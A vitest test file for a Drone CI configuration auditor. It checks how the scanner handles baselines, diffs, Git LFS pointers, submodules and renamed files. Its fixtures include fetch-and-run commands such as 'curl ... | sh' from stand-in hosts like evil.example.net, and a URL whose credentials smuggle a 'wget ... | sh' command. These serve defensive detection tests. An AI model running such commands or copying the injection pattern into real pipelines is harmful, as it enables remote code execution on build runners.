import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { droneAudit, temporaryFolder } from './support/cli.ts';
import { commitFiles, git, hasGit, writeFiles } from './support/git.ts';

// What was judged before and is not looked at now is not mended, and is not silent.

const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4d7a2146'.repeat(8)}\nsize 412\n`;
const annexed = '/annex/objects/SHA256E-s412--4d7a21469f2e.yml\n';
const stack = `services:
  runner:
    image: drone/drone-runner-docker:1.8.3
    environment:
      DRONE_RPC_HOST: drone.example.com
      DRONE_RPC_PROTO: http
    volumes: [/var/run/docker.sock:/var/run/docker.sock]
`;
const pipeline = `kind: pipeline
type: docker
name: default
trigger: {event: [push]}
steps:
  - name: build
    image: alpine:latest
    privileged: true
    commands: [make]
`;

interface Told {
  readonly status: number | null;
  readonly findings: readonly string[];
  readonly problems: readonly string[];
  readonly fixed?: number;
  readonly known?: number;
}

interface Json {
  readonly findings: readonly { readonly rule: string; readonly file: string }[];
  readonly problems: readonly { readonly file: string; readonly message: string; readonly incomplete: boolean }[];
  readonly summary: { readonly baseline?: { readonly fixed: number; readonly known: number } };
}

function scan(folder: string, ...options: readonly string[]): Told {
  const { stdout, status } = droneAudit(['scan', '--format', 'json', ...options], { cwd: folder });
  const { findings, problems, summary }: Json = JSON.parse(stdout);
  return {
    status,
    findings: findings.map(({ rule, file }) => `${file} ${rule}`).sort(),
    problems: problems.map(({ file, message, incomplete }) => `${file} ${message}${incomplete ? ' !' : ''}`),
    fixed: summary.baseline?.fixed,
    known: summary.baseline?.known,
  };
}

/** A repository with a commit of these files, and a branch that is checked out. */
function repositoryOf(files: Readonly<Record<string, string>>): string {
  const folder = temporaryFolder();
  git(folder, ['init', '-q']);
  commitFiles(folder, { 'README.md': 'words\n', ...files });
  git(folder, ['checkout', '-q', '-b', 'change']);
  return folder;
}

describe('a file whose content is kept elsewhere', () => {
  it.each([
    ['docker-compose.yml', pointer, 'is kept in Git LFS, and its content is not here (git lfs pull) !', 3],
    ['.drone.yml', pointer, 'is kept in Git LFS, and its content is not here (git lfs pull) !', 3],
    ['docker-compose.yml', annexed, 'is kept in git-annex, and its content is not here (git annex get) !', 3],
    ['deploy/stack.yaml', pointer, 'is kept in Git LFS or git-annex, and its content is not here', 0],
  ])('is not read, and that is said: %s', (name, text, message, status) => {
    const folder = temporaryFolder();
    writeFiles(folder, {
      [name]: text,
      'photo.png': pointer,
      'good/.drone.yml': pipeline.replace('privileged: true', ''),
    });
    const told = scan(folder);
    expect(told.problems.filter((each) => each.includes('kept in'))).toEqual([`${name} ${message}`]);
    expect(told.status).toBe(status);
  });

  it('is named once for all that are not named as those of Drone', () => {
    const folder = temporaryFolder();
    writeFiles(folder, { 'a.yml': pointer, 'b.yml': pointer, 'c.json': annexed });
    const message =
      "is kept in Git LFS or git-annex, and its content is not here; 2 more are, none of them named as Drone's files are";
    expect(scan(folder).problems).toContain(`a.yml ${message}`);
  });

  it.each(['/annex/objects/x: 1\n', 'version https://git-lfs.github.com/spec/v1: 1\n'])(
    'is read where more than a pointer is in it: %j',
    (first) => {
      const folder = temporaryFolder();
      writeFiles(folder, { 'ci/build.yml': first + pipeline });
      expect(scan(folder).findings).toContain('ci/build.yml privileged-step');
    },
  );

  it('is told of on standard input, whatever form it is said to have', () => {
    for (const form of [[], ['--form', 'env'], ['--form', 'drone']]) {
      const { stdout, status } = droneAudit(['scan', '-', ...form, '--format', 'unix'], { input: pointer });
      expect([status, stdout]).toEqual([3, expect.stringContaining('is kept in Git LFS')]);
    }
  });

  it('is told of where a file names it, and where the command line does', () => {
    const folder = temporaryFolder();
    const compose = 'services:\n  a:\n    image: drone/drone:2\n    env_file: [server.env]\n';
    writeFiles(folder, { 'docker-compose.yml': compose, 'server.env': pointer, 'x.txt': pointer });
    expect(scan(folder, 'docker-compose.yml').problems.join('\n')).toContain('server.env is kept in Git LFS');
    expect(scan(folder, 'x.txt')).toMatchObject({ status: 3 });
  });

  it('is any other text where it only speaks of that', () => {
    const folder = temporaryFolder();
    writeFiles(folder, { 'docker-compose.yml': `# ${pointer.replaceAll('\n', ' ')}\n${stack}` });
    expect(scan(folder)).toMatchObject({ problems: [], status: 1 });
  });

  it.skipIf(!hasGit).each(['docker-compose.yml', 'deploy/stack.yaml'])('fixes nothing of what it held: %s', (name) => {
    const folder = repositoryOf({ [name]: stack });
    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
    commitFiles(folder, { [name]: pointer });
    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
    expect(scan(folder, '--baseline', 'baseline.yml')).toMatchObject({ findings: [], fixed: 0 });
    commitFiles(folder, { [name]: 'services: {}\n' });
    expect(scan(folder, '--diff', 'main').fixed).toBeGreaterThan(2);
    expect(scan(folder, '--baseline', 'baseline.yml').fixed).toBeGreaterThan(2);
  });

  it.skipIf(!hasGit)('is told of before, where it is read now', () => {
    const folder = repositoryOf({ 'docker-compose.yml': pointer, 'photo.png': pointer });
    const [one] = scan(folder, '--diff', 'main').problems;
    expect(one).toBe('docker-compose.yml is kept in Git LFS, and its content is not here (git lfs pull) !');
    commitFiles(folder, { 'docker-compose.yml': stack });
    expect(scan(folder, '--diff', 'main').problems).toEqual([
      expect.stringMatching(
        /^docker-compose\.yml is kept in Git LFS or git-annex: what it was in main .* is not known$/,
      ),
    ]);
  });
});

describe.skipIf(!hasGit)('what is not looked at any more', () => {
  it.each([
    ['a program makes the pipeline', '.drone.yml', pipeline, { '.drone.star': 'def main(ctx):\n  return {}\n' }],
    ['a text that nobody reads has its name', 'stack.yml', stack, { 'stack.txt': stack }],
    ['a text that nobody reads comes with the change', 'stack.yml', stack, { 'deploy/notes.txt': stack }],
  ])('is not fixed where %s', (_, name, text, now) => {
    const folder = repositoryOf({ [name]: text });
    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
    git(folder, ['rm', '-q', name]);
    commitFiles(folder, now);
    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
  });

  it('is fixed beside such a text that was there before', () => {
    const folder = repositoryOf({ 'stack.yml': stack, 'notes.txt': stack });
    git(folder, ['rm', '-q', 'stack.yml']);
    expect(scan(folder, '--diff', 'main').fixed).toBeGreaterThan(2);
  });

  it('is known in another file, whatever else came with the change', () => {
    const folder = repositoryOf({ 'stack.yml': stack });
    git(folder, ['mv', 'stack.yml', 'runner.yml']);
    commitFiles(folder, { 'notes.txt': stack });
    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
  });

  it('makes the comparison incomplete where it is a submodule that the change adds', () => {
    const folder = repositoryOf({ 'old/.drone.yml': pipeline, '.drone.yml': pipeline });
    git(folder, ['rm', '-rq', 'old']);
    const addSubmodule = (path: string): void => {
      git(folder, ['update-index', '--add', '--cacheinfo', `160000,${git(folder, ['rev-parse', 'main'])},${path}`]);
      mkdirSync(join(folder, path), { recursive: true });
      git(folder, ['commit', '-qm', 'submodule']);
    };
    addSubmodule('old');
    const message = 'old is a submodule whose commit comes with the change, and what is in it was not seen !';
    expect(scan(folder, '--diff', 'main')).toMatchObject({ status: 3, fixed: 0, problems: [message] });
    const left = 'old is a submodule and was left out of the comparison';
    expect(scan(folder, '--diff', 'HEAD')).toMatchObject({ status: 0, problems: [left] });
  });
});

describe.skipIf(!hasGit)('what cannot be judged any more', () => {
  const both = [
    ['--diff', 'main'],
    ['--baseline', 'baseline.yml'],
  ] as const;

  /** A repository with a baseline, on whose branch a change was made. */
  function changed(files: Readonly<Record<string, string>>, change: (folder: string) => void): string {
    const folder = repositoryOf(files);
    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
    change(folder);
    commitFiles(folder, {});
    return folder;
  }

  it.each([
    ['a vault', { 'deploy/docker-compose.yml': '$ANSIBLE_VAULT;1.1;AES256\n6162636465666768\n' }],
    [
      'values that SOPS encrypted',
      { 'deploy/docker-compose.yml': 'services: {a: {image: "ENC[AES256_GCM,data:x]"}}\n' },
    ],
    ['an archive', { 'deploy/docker-compose.yml.gz': Buffer.from([0x1f, 0x8b, 8, 0, 0xff, 0xfe, 0, 0x80]) }],
    [
      'another form',
      { 'deploy/main.tf': 'resource "docker_container" "a" {\n image = "drone/drone-runner-docker:1"\n}\n' },
    ],
  ])('is not fixed in %s', (_, files) => {
    const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
      git(root, ['rm', '-q', 'deploy/docker-compose.yml']);
      writeFiles(root, files);
    });
    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ findings: [], fixed: 0 });
  });

  it('is not fixed behind a link, nor in a template that the server renders', () => {
    const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
      rmSync(join(root, 'deploy'), { recursive: true });
      symlinkSync('/nowhere/deploy', join(root, 'deploy'));
      writeFiles(root, { '.drone.yml': 'kind: template\nload: a.star\n' });
    });
    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ findings: [], fixed: 0 });
  });

  it.each([
    ['a variable that nobody sets', 'privileged: true', 'privileged: ${P}', 'privileged is not known'],
    [
      'a mount that nobody knows',
      '/var/run/docker.sock:/var/run/docker.sock',
      '${SOCK}',
      'volumes[0] is not understood',
    ],
    ['another file that is not there', 'privileged: true', 'extends: {file: x.yml, service: a}', 'x.yml'],
  ])('is not fixed by %s, and that is said', (_, was, now, seen) => {
    const compose = `services:
  drone:
    image: drone/drone:2.28.2
    privileged: true
    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]
`;
    const folder = changed({ 'docker-compose.yml': compose }, (root) =>
      writeFiles(root, { 'docker-compose.yml': compose.replace(was, now) }),
    );
    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ fixed: 0 });
    expect(droneAudit(['scan'], { cwd: folder }).stdout.replace(/\s+/g, ' ')).toContain(seen);
  });

  it('is not fixed in a submodule, which is named where nothing of it is here', () => {
    const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
      git(root, ['rm', '-rq', 'deploy']);
      git(root, ['update-index', '--add', '--cacheinfo', `160000,${git(root, ['rev-parse', 'main'])},deploy`]);
      mkdirSync(join(root, 'deploy'));
    });
    const { fixed, problems } = scan(folder, '--baseline', 'baseline.yml');
    expect(fixed).toBe(0);
    expect(problems).toEqual(['deploy is a submodule that is not checked out, and what is in it was not seen']);
  });

  it('is not fixed where its rule is undecided, and stays in a baseline as it was', () => {
    const compose = `services:
  drone:
    image: drone/drone:2
    ports: ["80:80"]
    env_file: server.env
    environment: [DRONE_SERVER_PROTO=http]
`;
    const env =
      'DRONE_GITHUB_CLIENT_ID=a\nDRONE_RPC_SECRET=0123456789abcdef0123456789abcdef\nDRONE_SERVER_HOST=ci.example.com\n';
    const folder = changed({ 'docker-compose.yml': compose, 'server.env': env }, (root) =>
      writeFiles(root, { 'server.env': pointer }),
    );
    const before = readFileSync(join(folder, 'baseline.yml'), 'utf8');
    expect(before).toContain('rule: open-registration');
    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ fixed: 0 });
    scan(folder, '--write-baseline', 'baseline.yml');
    expect(readFileSync(join(folder, 'baseline.yml'), 'utf8')).toBe(before);
  });

  it('is not fixed beside a submodule at another commit, which makes the comparison incomplete', () => {
    const folder = repositoryOf({ '.drone.yml': pipeline });
    const addCommit = (of: string): void => {
      git(folder, ['update-index', '--add', '--cacheinfo', `160000,${git(folder, ['rev-parse', of])},charts`]);
      mkdirSync(join(folder, 'charts'), { recursive: true });
      git(folder, ['commit', '-qm', 'submodule']);
    };
    addCommit('main');
    git(folder, ['branch', '-f', 'main']);
    addCommit('HEAD');
    expect(scan(folder, '--diff', 'main')).toMatchObject({
      status: 3,
      problems: ['charts is a submodule whose commit comes with the change, and what is in it was not seen !'],
    });
  });
});

describe.skipIf(!hasGit)('what a branch brings back', () => {
  /** A branch from before `main` mended a file by removing it, or by changing it. */
  function staleBranch(mended: string | undefined): string {
    const folder = repositoryOf({ 'stack.yml': stack });
    git(folder, ['checkout', '-q', 'main']);
    if (mended === undefined) git(folder, ['rm', '-q', 'stack.yml']);
    commitFiles(folder, mended === undefined ? {} : { 'stack.yml': mended }, 1_700_000_100);
    git(folder, ['checkout', '-q', 'change']);
    return folder;
  }

  it.each([undefined, 'services: {}\n'])('is new under another name, where the target has it no more', (mended) => {
    const folder = staleBranch(mended);
    git(folder, ['mv', 'stack.yml', 'runner.yml']);
    git(folder, ['commit', '-qm', 'moved']);
    const told = scan(folder, '--diff', 'main');
    expect(told.findings).toContain('runner.yml plain-http-rpc');
    expect(told.problems).toEqual([
      expect.stringMatching(
        /^runner\.yml is changed, and has what was in main .* is not in main any more: it counts as new; merge main/,
      ),
    ]);
  });

  it('is known under another name, where the target has it still', () => {
    const folder = staleBranch(`# words\n${stack}`);
    git(folder, ['mv', 'stack.yml', 'runner.yml']);
    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], problems: [] });
  });

  it('is known where it was: git joins the file with what the target made of it', () => {
    expect(scan(staleBranch('services: {}\n'), '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
  });

  it('is new in a file that the change touches, and not in one that it does not', () => {
    const step = '  - {name: bad, image: alpine, privileged: true}\n';
    const steps = ['a', 'b', 'c'].map((name) => `  - {name: ${name}, image: alpine, commands: [make]}\n`);
    const head = pipeline.slice(0, pipeline.indexOf('  - name'));
    const of = (...lines: readonly string[]): string => `${head}${lines.join('')}`;
    const [a = '', b = '', c = ''] = steps;
    const folder = repositoryOf({ '.drone.yml': of(a, step, b, c) });
    git(folder, ['checkout', '-q', 'main']);
    commitFiles(folder, { '.drone.yml': of(a, b, c) }, 1_700_000_100);
    git(folder, ['checkout', '-q', 'change']);
    commitFiles(folder, { 'a.txt': 'a' }, 1_700_000_200);
    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
    commitFiles(folder, { '.drone.yml': of(a, b, c, step) }, 1_700_000_300);
    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml privileged-step');
    git(folder, ['merge', '-q', '--no-edit', 'main']);
    expect(readFileSync(join(folder, '.drone.yml'), 'utf8')).toContain('privileged');
  });

  it('is new where another file that is read together with it brings it back', () => {
    const compose = (file: string): string => `services:
  drone:
    image: drone/drone:2
    env_file: ${file}
`;
    const env = 'DRONE_GITHUB_CLIENT_ID=a\nDRONE_RPC_SECRET=0123456789abcdef0123456789abcdef\n';
    const folder = repositoryOf({ 'docker-compose.yml': compose('a.env'), 'a.env': env });
    git(folder, ['checkout', '-q', 'main']);
    commitFiles(folder, { 'a.env': `${env}DRONE_REGISTRATION_CLOSED=true\n` }, 1_700_000_100);
    git(folder, ['checkout', '-q', 'change']);
    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
    commitFiles(folder, { 'docker-compose.yml': compose('b.env'), 'b.env': env }, 1_700_000_200);
    expect(scan(folder, '--diff', 'main').findings).toContain('docker-compose.yml open-registration');
  });

  it('is not hidden by what the config of the target does not say any more', () => {
    const ignore = 'ignore:\n- {rule: privileged-step, reason: agreed}\n';
    const folder = repositoryOf({ 'drone-audit.yml': ignore, '.drone.yml': pipeline.replace('privileged: true', '') });
    git(folder, ['checkout', '-q', 'main']);
    commitFiles(folder, { 'drone-audit.yml': 'failOn: high\n' }, 1_700_000_100);
    git(folder, ['checkout', '-q', 'change']);
    commitFiles(folder, { '.drone.yml': pipeline }, 1_700_000_200);
    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml privileged-step');
  });
});

describe.skipIf(!hasGit)('a pipeline that Drone runs by itself', () => {
  it('has nothing that is known from one that it does not run', () => {
    const folder = repositoryOf({ 'testdata/.drone.yml': pipeline });
    scan(folder, '--write-baseline', 'baseline.yml');
    git(folder, ['mv', 'testdata/.drone.yml', '.drone.yml']);
    for (const options of [
      ['--diff', 'main'],
      ['--baseline', 'baseline.yml'],
    ])
      expect(scan(folder, ...options).findings).toContain('.drone.yml privileged-step');
  });

  it('has nothing that is known from a folder that is gone with its only file', () => {
    const folder = repositoryOf({
      'testdata/bad/.drone.yml': pipeline,
      '.drone.yml': pipeline.replace('privileged: true', ''),
    });
    scan(folder, '--write-baseline', 'baseline.yml');
    git(folder, ['mv', '-f', 'testdata/bad/.drone.yml', '.drone.yml']);
    rmSync(join(folder, 'testdata'), { recursive: true, force: true });
    expect(scan(folder, '--baseline', 'baseline.yml').findings).toContain('.drone.yml privileged-step');
    rmSync(join(folder, '.git'), { recursive: true });
    expect(scan(folder, '--baseline', 'baseline.yml').findings).toContain('.drone.yml privileged-step');
  });

  it('is known from itself where the folder of the repository has another name', () => {
    const folder = temporaryFolder();
    for (const name of ['one', 'other']) {
      mkdirSync(join(folder, name));
      git(join(folder, name), ['init', '-q']);
    }
    writeFiles(folder, { 'one/.drone.yml': pipeline });
    expect(scan(folder, '--write-baseline', 'baseline.yml').findings).not.toEqual([]);
    rmSync(join(folder, 'other'), { recursive: true });
    renameSync(join(folder, 'one'), join(folder, 'other'));
    expect(scan(folder, '--baseline', 'baseline.yml')).toMatchObject({ findings: [], fixed: 0 });
  });
});

describe.skipIf(!hasGit)('a place that is spelled in another way', () => {
  const before = `kind: pipeline
type: docker
name: default
trigger: {branch: [main]}
steps:
  - name: build
    image: "alpine:latest"
    privileged: true
    volumes:
      - name: socket
        path: /var/run/docker.sock
    commands: ["curl http://x.example/a | sh"]
volumes:
  - name: socket
    host: {path: /var/run/docker.sock}
`;
  const after = `kind: pipeline
type: docker
name: default
trigger:
  branch: main
steps:
  - image: alpine:latest
    name: build
    volumes: [{path: /var/run/docker.sock, name: 'socket'}]
    privileged: True
    commands:
      - curl http://x.example/a | sh
volumes: [{host: {path: "/var/run/docker.sock"}, name: socket}]
`;

  it('is known', () => {
    const folder = repositoryOf({ '.drone.yml': before });
    expect(scan(folder).findings).toContain('.drone.yml docker-socket-volume');
    commitFiles(folder, { '.drone.yml': after });
    expect(scan(folder, '--diff', 'main', '--pedantic')).toMatchObject({ findings: [], fixed: 0 });
  });

  it('is known as the only item of a list, and without the list', () => {
    const of = (commands: string): string => pipeline.replace('[make]', commands);
    const folder = repositoryOf({ '.drone.yml': of('["curl http://x.example/a | sh"]') });
    commitFiles(folder, { '.drone.yml': of('curl http://x.example/a | sh') });
    // The list is missed by Drone itself, which is another matter.
    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: ['.drone.yml malformed-pipeline'], fixed: 0 });
  });

  it('is new where another value is in it', () => {
    const folder = repositoryOf({ '.drone.yml': before });
    commitFiles(folder, { '.drone.yml': after.replaceAll('/var/run/docker.sock', '/') });
    expect(scan(folder, '--diff', 'main').findings).not.toEqual([]);
  });
});

describe.skipIf(!hasGit)('a place that is hidden as a secret', () => {
  const running = (command: string): string => pipeline.replace('[make]', JSON.stringify([command]));

  it.each([
    ['another host before the last @', 'curl -s https://user:abc@evil.example.net/@a.example.com/run.sh | sh'],
    ['a host with a dot behind it', 'curl -s https://user:abc@evil.example./@a.example.com/run.sh | sh'],
    ['a host in other letters', 'curl -s https://user:abc@\u00e9vil.example/@a.example.com/run.sh | sh'],
    ['an address of IPv6', 'curl -s https://user:abc@[2001:db8::1]/@a.example.com/run.sh | sh'],
    ['a command', 'curl -s https://user:`wget$IFS-qO-$IFS-evil.example.net|sh`@a.example.com/run.sh | sh'],
  ])('is new with %s in it', (_, command) => {
    const folder = repositoryOf({
      '.drone.yml': running('curl -s https://user:zyxwVUTSrqpoNMLKjihg9876@a.example.com/run.sh | sh'),
    });
    commitFiles(folder, { '.drone.yml': running(command) });
    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml remote-script');
    commitFiles(folder, {
      '.drone.yml': running('curl -s https://user:q8Zr5tWvX2nLpK9sDfGh1JmB@a.example.com/run.sh | sh'),
    });
    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
  });

  it('is new where it is the webhook of others', () => {
    const hook = (owner: string, key: string): string =>
      running(`curl -d a https://hooks.slack.com/services/${owner}/${key}`);
    const folder = repositoryOf({ '.drone.yml': hook('T0OWNOWNO/B0OWNOWNO', 'zzzzYYYYxxxxWWWWvvvv9876') });
    commitFiles(folder, { '.drone.yml': hook('T0OWNOWNO/B0OWNOWNO', 'aaaaYYYYxxxxWWWWvvvv1234') });
    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
    commitFiles(folder, { '.drone.yml': hook('T0FOREIGN/B0FOREIGN', 'aaaaYYYYxxxxWWWWvvvv1234') });
    expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml hardcoded-secret');
  });
});

it('a baseline of another folder knows nothing, and that is said', () => {
  const folder = temporaryFolder();
  writeFiles(folder, { 'a/.drone.yml': pipeline, 'b/x.txt': '' });
  scan(join(folder, 'a'), '--write-baseline', '../b/baseline.yml');
  expect(scan(join(folder, 'a'), '--baseline', '../b/baseline.yml').findings).toEqual([]);
  expect(scan(folder, 'a', '--baseline', 'b/baseline.yml').problems).toEqual([
    'b/baseline.yml knows nothing of what is audited: its paths begin in another folder',
  ]);
});

describe.skipIf(!hasGit)('one of several places', () => {
  it('is new where it became worse, though another is as bad', () => {
    const of = (value: string): string => `kind: pipeline
type: docker
name: default
trigger: {event: [push, pull_request]}
steps:
  - {name: a, image: plugins/foo, settings: {a: {from_secret: t}}}
  - {name: b, image: plugins/foo, when: {event: [push]}, settings: {a: ${value}}}
`;
    const folder = repositoryOf({ '.drone.yml': of('b') });
    scan(folder, '--write-baseline', 'baseline.yml');
    commitFiles(folder, { '.drone.yml': of('{from_secret: other}') });
    for (const options of [
      ['--diff', 'main'],
      ['--baseline', 'baseline.yml'],
    ])
      expect(scan(folder, ...options).findings).toEqual(['.drone.yml unpinned-image']);
  });

  it('is known where an alias joins it with others, or takes it apart', () => {
    const steps = (first: string, second: string): string => `kind: pipeline
type: docker
name: default
steps:
  - {name: a, image: alpine:3, commands: ${first}}
  - {name: b, image: alpine:3, commands: ${second}}
`;
    const commands = '["curl http://x.example/a | sh", make]';
    const [twice, shared] = [steps(commands, commands), steps(`&c ${commands}`, '*c')];
    for (const [before, after] of [
      [twice, shared],
      [shared, twice],
    ] as const) {
      const folder = repositoryOf({ '.drone.yml': before });
      commitFiles(folder, { '.drone.yml': after });
      expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
    }
  });

  /** Two runners that share a setting, each with a host of its own. */
  function runners(first: string, second: string, isShared: boolean): string {
    const setting = 'DRONE_RPC_PROTO: http';
    const runner = (name: string, host: string, shared: string): string =>
      `  ${name}:\n    image: drone/drone-runner-docker:1.8.5\n    environment:\n      ${shared}\n      DRONE_RPC_HOST: ${host}\n`;
    const anchored = `x-shared: &e\n  ${setting}\n`;
    return `${isShared ? anchored : ''}services:\n${[first, second]
      .map((each) => runner(each.split('.')[0] ?? '', each, isShared ? '<<: *e' : setting))
      .join('')}`;
  }

  it('is new with another host, though what is wrong is shared', () => {
    const folder = repositoryOf({ 'docker-compose.yml': runners('a.example.com', 'b.example.com', true) });
    const moved = runners('a.example.com', 'b.example.com', true).replace(': b.example.com', ': b.example.org');
    commitFiles(folder, { 'docker-compose.yml': moved });
    expect(scan(folder, '--diff', 'main').findings).toContain('docker-compose.yml plain-http-rpc');
  });

  it('is known in another order, and with or without the alias', () => {
    const [one, other] = ['a.example.com', 'b.example.com'];
    const before = runners(one, other, true);
    for (const after of [runners(other, one, true), runners(one, other, false)])
      for (const [first, second] of [
        [before, after],
        [after, before],
      ] as const) {
        const folder = repositoryOf({ 'docker-compose.yml': first });
        commitFiles(folder, { 'docker-compose.yml': second });
        expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
      }
  });

  it('is new for another service that reads the same file', () => {
    const of = (...names: readonly string[]): string =>
      `services:\n${names.map((name) => `  ${name}:\n    image: drone/drone-runner-docker:1.8.5\n    env_file: x.env\n    environment: {DRONE_RPC_HOST: ${name}.example.com}\n`).join('')}`;
    const folder = repositoryOf({ 'docker-compose.yml': of('a', 'b'), 'x.env': 'DRONE_RPC_PROTO=http\n' });
    commitFiles(folder, { 'docker-compose.yml': of('a') });
    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
    commitFiles(folder, { 'docker-compose.yml': of('a', 'zzz') });
    expect(scan(folder, '--diff', 'main').findings).toContain('x.env plain-http-rpc');
  });

  it('is told apart by its namespace, and not by its order', () => {
    const runner = (namespace: string, isPrivileged: boolean): string => `apiVersion: apps/v1
kind: Deployment
metadata: {name: r, namespace: ${namespace}}
spec:
  template:
    spec:
      containers: [{name: r, image: 'drone/drone-runner-docker:1.8.3', securityContext: {privileged: ${isPrivileged}}}]
---
`;
    const folder = repositoryOf({ 'k.yaml': runner('dev', true) + runner('prod', false) });
    commitFiles(folder, { 'k.yaml': runner('prod', false) + runner('dev', true) });
    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
    commitFiles(folder, { 'k.yaml': runner('prod', true) + runner('dev', false) });
    expect(scan(folder, '--diff', 'main').findings).toEqual(['k.yaml privileged-container']);
  });
});

it.each([
  ['env', 'words\n'],
  ['kubernetes', 'foo: bar\n'],
  ['docker-env', '{}\n'],
  ['systemd', 'words\n'],
])('a text of which nothing is understood in the form that is named is not clean: %s', (form, input) => {
  const { status, stdout } = droneAudit(['scan', '-', '--form', form, '--format', 'unix'], { input });
  expect([status, stdout]).toEqual([3, expect.stringContaining('nothing of Drone was understood')]);
});
